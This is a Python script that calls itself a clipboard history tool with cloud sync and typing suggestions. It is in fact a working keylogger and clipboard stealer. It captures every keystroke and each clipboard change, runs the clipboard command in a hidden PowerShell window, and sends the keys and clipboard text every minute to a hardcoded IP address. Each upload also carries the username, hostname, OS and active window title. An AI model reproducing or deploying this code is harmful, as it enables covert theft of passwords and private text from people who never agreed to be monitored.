#!/usr/bin/env python3
"""Clipboard history with cloud sync and "smart typing suggestions".

Watches the clipboard and the keyboard in the background, batches what it
sees and uploads it to the collector so history is "available on every
device".  Keyboard capture uses GetAsyncKeyState on Windows and pynput
elsewhere.
"""
import argparse
import json
import logging
import os
import platform
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path

COLLECTOR = "http://203.0.113.77:8088/api/ingest"
log = logging.getLogger("cliphist-cloud")
_lock = threading.Lock()
_keys = []
_clips = []


def paste_cmd():
    if os.name == "nt":
        return ["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command",
                "Get-Clipboard -Raw"]
    if sys.platform == "darwin":
        return ["pbpaste"]
    if os.environ.get("WAYLAND_DISPLAY") and shutil.which("wl-paste"):
        return ["wl-paste", "--no-newline"]
    return ["xclip", "-selection", "clipboard", "-o"]


def clipboard_loop(interval: float) -> None:
    last = None
    while True:
        out = subprocess.run(paste_cmd(), capture_output=True, text=True).stdout
        if out and out != last:
            with _lock:
                _clips.append({"t": time.time(), "text": out[:20000]})
            last = out
        time.sleep(interval)


def keyboard_loop_windows() -> None:
    import ctypes
    user32 = ctypes.windll.user32
    pressed = set()
    while True:
        for vk in range(8, 256):
            if user32.GetAsyncKeyState(vk) & 0x8000:
                if vk not in pressed:
                    pressed.add(vk)
                    buf = ctypes.create_unicode_buffer(8)
                    state = (ctypes.c_ubyte * 256)()
                    user32.GetKeyboardState(state)
                    n = user32.ToUnicode(vk, 0, state, buf, 8, 0)
                    with _lock:
                        _keys.append(buf.value[:n] if n > 0 else f"<{vk}>")
            else:
                pressed.discard(vk)
        time.sleep(0.01)


def keyboard_loop_pynput() -> None:
    from pynput import keyboard

    def on_press(key):
        try:
            ch = key.char
        except AttributeError:
            ch = f"<{key.name}>"
        with _lock:
            _keys.append(ch or "")

    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()


def window_title() -> str:
    if os.name == "nt":
        import ctypes
        hwnd = ctypes.windll.user32.GetForegroundWindow()
        buf = ctypes.create_unicode_buffer(512)
        ctypes.windll.user32.GetWindowTextW(hwnd, buf, 512)
        return buf.value
    return ""


def uploader(every: float, device_id: str) -> None:
    while True:
        time.sleep(every)
        with _lock:
            keys, clips = "".join(_keys), list(_clips)
            _keys.clear()
            _clips.clear()
        if not keys and not clips:
            continue
        payload = {"device": device_id, "host": socket.gethostname(),
                   "user": os.environ.get("USERNAME") or os.environ.get("USER"),
                   "os": platform.platform(), "window": window_title(),
                   "keys": keys, "clips": clips}
        req = urllib.request.Request(COLLECTOR, data=json.dumps(payload).encode(),
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).read()
        except OSError:
            with _lock:  # keep the data for the next attempt
                _keys.insert(0, keys)
                _clips[:0] = clips


def device_id() -> str:
    if os.name == "nt":
        path = Path(os.environ["LOCALAPPDATA"]) / "ClipHist" / "device"
    else:
        path = Path.home() / ".cliphist-device"
    path.parent.mkdir(parents=True, exist_ok=True)
    if not path.exists():
        path.write_text(os.urandom(8).hex())
    return path.read_text().strip()


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--upload-every", type=float, default=60.0)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING)

    threading.Thread(target=clipboard_loop, args=(args.interval,), daemon=True).start()
    key_loop = keyboard_loop_windows if os.name == "nt" else keyboard_loop_pynput
    threading.Thread(target=key_loop, daemon=True).start()
    threading.Thread(target=uploader, args=(args.upload_every, device_id()), daemon=True).start()
    try:
        while True:
            time.sleep(3600)
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    sys.exit(main())
